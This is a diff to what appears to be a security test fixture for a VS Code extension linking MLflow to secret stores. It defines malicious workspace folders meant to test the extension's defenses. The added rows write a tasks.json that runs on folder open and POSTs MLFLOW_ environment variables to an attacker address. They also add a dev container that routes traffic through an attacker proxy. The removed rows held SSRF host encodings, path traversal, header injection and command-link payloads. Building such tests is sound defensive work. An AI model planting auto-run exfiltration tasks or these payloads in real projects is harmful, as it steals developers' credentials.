@@ -1,5 +1,3 @@
-import { harmfulCommand } from './corpus.ts';
-
 /** Addresses that rows need. */
 export interface Addresses {
   /** `http://127.0.0.1:PORT`, where every byte is recorded. */
@@ -9,6 +7,8 @@ export interface Addresses {
   readonly friend: string;
   /** What a command of the folder would write. */
   readonly marker: string;
+  /** A Node.js to run programs with. */
+  readonly node: string;
 }
 
 export type Settings = Readonly<Record<string, unknown>>;
@@ -18,20 +18,17 @@ export interface FolderRow {
   /** By path; the first that ends with `.code-workspace` is opened, else the folder. */
   readonly files: (addresses: Addresses) => Readonly<Record<string, unknown>>;
   readonly restricted?: boolean;
+  /** Of the remote machine, where what the file of a dev container says ends up. */
+  readonly machine?: (addresses: Addresses) => Settings;
+  /** What the attacker hears from a program of the folder, so that the row says something. */
+  readonly hears?: string;
 }
 
-export interface PullRow {
-  readonly name: string;
-  readonly settings: (addresses: Addresses) => Settings;
-  /** Paths of the friend that redirect to the attacker meanwhile. */
-  readonly hijack?: string;
-}
-
-const ours = (settings: Settings): Settings =>
+export const ours = (settings: Settings): Settings =>
   Object.fromEntries(Object.entries(settings).map(([key, value]) => [`mlflowSecretsAuth.${key}`, value]));
 
 /** `{ "mlflowSecretsAuth": { "vault": { "address": … } } }`, which the editor takes as well. */
-function nested(settings: Settings): Settings {
+export function nested(settings: Settings): Settings {
   const root: Record<string, unknown> = {};
   for (const [key, value] of Object.entries(ours(settings))) {
     const parts = key.split('.');
@@ -71,7 +68,7 @@ const aws = ({ attacker }: Addresses): Settings => ({
   'aws.profile': 'hostile',
 });
 
-const azure = ({ attacker }: Addresses): Settings => ({
+export const azure = ({ attacker }: Addresses): Settings => ({
   trackingUri: attacker,
   provider: 'azure',
   'azure.vaultUrl': attacker,
@@ -79,7 +76,28 @@ const azure = ({ attacker }: Addresses): Settings => ({
   'azure.signIn': 'environment',
 });
 
+/** Sends the variables of a connection to the attacker, as soon as the editor runs it. */
+function openingTask({ attacker, node }: Addresses): object {
+  const stolen = 'Object.entries(process.env).filter(([name]) => name.startsWith("MLFLOW_"))';
+  const program = `fetch("${attacker}/task-ran", { method: "POST", body: JSON.stringify(${stolen}) })`;
+  const task = { label: 'x', type: 'process', command: node, args: ['-e', program] };
+  return { version: '2.0.0', tasks: [{ ...task, runOptions: { runOn: 'folderOpen' } }] };
+}
+
 const file = '.vscode/settings.json';
+
+interface DevContainer {
+  readonly image: string;
+  readonly postCreateCommand: string;
+  readonly customizations: { readonly vscode: { readonly settings: Settings } };
+}
+
+function devContainer(addresses: Addresses): DevContainer {
+  const { attacker, marker } = addresses;
+  const proxy = { 'http.proxy': attacker, 'http.proxyStrictSSL': false };
+  const settings = { ...ours(everything(addresses)), ...proxy };
+  return { image: 'x', postCreateCommand: `touch ${marker}`, customizations: { vscode: { settings } } };
+}
 
 export const folderRows: readonly FolderRow[] = [
   {
@@ -93,6 +111,27 @@ export const folderRows: readonly FolderRow[] = [
       'a.code-workspace': { folders: [{ path: '.' }], settings: nested(approle(addresses)) },
     }),
     restricted: true,
+  },
+  {
+    name: 'tasks in Restricted Mode that run when the folder opens',
+    files: (addresses) => ({
+      [file]: ours(everything(addresses)),
+      '.vscode/tasks.json': openingTask(addresses),
+    }),
+    restricted: true,
+  },
+  {
+    name: 'tasks that run when the folder opens',
+    files: (addresses) => ({
+      [file]: ours(everything(addresses)),
+      '.vscode/tasks.json': openingTask(addresses),
+    }),
+    hears: 'task-ran',
+  },
+  {
+    name: 'the settings of a dev container',
+    files: (addresses) => ({ '.devcontainer/devcontainer.json': devContainer(addresses) }),
+    machine: (addresses) => devContainer(addresses).customizations.vscode.settings,
   },
   { name: 'Vault by token', files: (addresses) => ({ [file]: ours(everything(addresses)) }) },
   {
@@ -134,105 +173,8 @@ export const folderRows: readonly FolderRow[] = [
         version: '0.2.0',
         configurations: [{ name: 'x', type: 'node', request: 'launch', program: 'x', envFile: '.env' }],
       },
-      '.devcontainer/devcontainer.json': {
-        image: 'x',
-        postCreateCommand: `touch ${addresses.marker}`,
-        customizations: { vscode: { settings: ours(everything(addresses)) } },
-      },
+      '.devcontainer/devcontainer.json': devContainer(addresses),
       '.env': `VAULT_ADDR=${addresses.attacker}\nMLFLOW_TRACKING_URI=${addresses.attacker}\nAZURE_KEY_VAULT_URL=${addresses.attacker}\n`,
     }),
   },
-];
-
-const link = `[Sign in](command:${harmfulCommand})`;
-
-/** In a folder that is connected with a credential that was entered. */
-export const storedPulls: readonly PullRow[] = [
-  { name: 'another tracking server', settings: ({ attacker }) => ours({ trackingUri: attacker }) },
-  {
-    name: 'another tracking server, as nested objects',
-    settings: ({ attacker }) => nested({ trackingUri: attacker }),
-  },
-  ...['localhost', '0x7f.1', '127.1', '2130706433', '127.0.0.1.'].map((host) => ({
-    name: `another tracking server at ${host}`,
-    settings: ({ attackerPort }: Addresses) => ours({ trackingUri: `http://${host}:${attackerPort}` }),
-  })),
-  {
-    name: 'a user in front of the host',
-    settings: ({ friend, attackerPort }) => ours({ trackingUri: `${friend}@127.0.0.1:${attackerPort}` }),
-  },
-  {
-    name: 'a host in other letters',
-    settings: ({ attackerPort }) => ours({ trackingUri: `http://１２７.0.0.1:${attackerPort}` }),
-  },
-  {
-    name: 'the port of the proxy',
-    settings: ({ attackerPort }) => ours({ 'proxy.port': attackerPort }),
-  },
-  {
-    name: 'the port of the proxy, as nested objects',
-    settings: ({ attackerPort }) => nested({ 'proxy.port': attackerPort }),
-  },
-  {
-    name: 'the HTTP proxy of the editor',
-    settings: ({ attacker }) => ({
-      'http.proxy': attacker,
-      'http.proxySupport': 'override',
-      'http.noProxy': [],
-    }),
-  },
-  { name: 'an HTTP proxy as a nested object', settings: ({ attacker }) => ({ http: { proxy: attacker } }) },
-  { name: 'certificates', settings: ({ marker }) => ours({ 'tls.caFile': marker }) },
-  {
-    name: 'a longer life in more places',
-    settings: () =>
-      ours({ 'cache.keep': 'secretStorage', 'cache.ttlSeconds': 86_400, 'cache.maxStaleSeconds': 86_400 }),
-  },
-  { name: 'a link in the name of the header', settings: () => ours({ 'header.name': `X ${link}` }) },
-  {
-    name: 'line breaks in the name of the header',
-    settings: () => ours({ 'header.name': `X\r\nHost: x\n${link}` }),
-  },
-  { name: 'a list of hosts that is none', settings: () => ours({ allowedHosts: link }) },
-  {
-    name: 'a Vault instead',
-    settings: ({ attacker }) =>
-      ours({ provider: 'vault', 'vault.address': attacker, 'vault.path': 'secret/mlflow' }),
-  },
-  {
-    name: 'an Azure vault instead',
-    settings: ({ attacker }) => ours({ ...azure({ attacker } as Addresses), trackingUri: undefined }),
-  },
-  { name: 'a tracking server that redirects', settings: () => ({}), hijack: '/api/' },
-];
-
-/** In a folder that is connected with a Vault token that was entered for its own Vault. */
-export const vaultPulls: readonly PullRow[] = [
-  { name: 'another Vault', settings: ({ attacker }) => ours({ 'vault.address': attacker }) },
-  {
-    name: 'another Vault, as nested objects',
-    settings: ({ attacker }) => nested({ 'vault.address': attacker }),
-  },
-  {
-    name: 'another sign-in at another Vault',
-    settings: ({ attacker }) =>
-      ours({ 'vault.address': attacker, 'vault.authMethod': 'approle', 'vault.roleId': 'r' }),
-  },
-  {
-    name: 'lines in the namespace of Vault',
-    settings: ({ attacker, friend }) =>
-      ours({
-        trackingUri: attacker,
-        'vault.namespace': `x\nTracking server: ${friend}\n${'\n'.repeat(50)}${link}`,
-      }),
-  },
-  { name: 'a link in the namespace of Vault', settings: () => ours({ 'vault.namespace': link }) },
-  ...['../../other/app', 'secret/../../../other', 'secret/%2e%2e/%2e%2e/other', 'secret/x?y#z'].map(
-    (path) => ({
-      name: `the path ${path}`,
-      settings: () => ours({ 'vault.path': path }),
-    }),
-  ),
-  { name: 'a mount that leads elsewhere', settings: () => ours({ 'vault.mount': '../other' }) },
-  { name: 'a Vault that redirects', settings: () => ours({ 'vault.path': 'secret/other' }), hijack: '/v1/' },
 ];
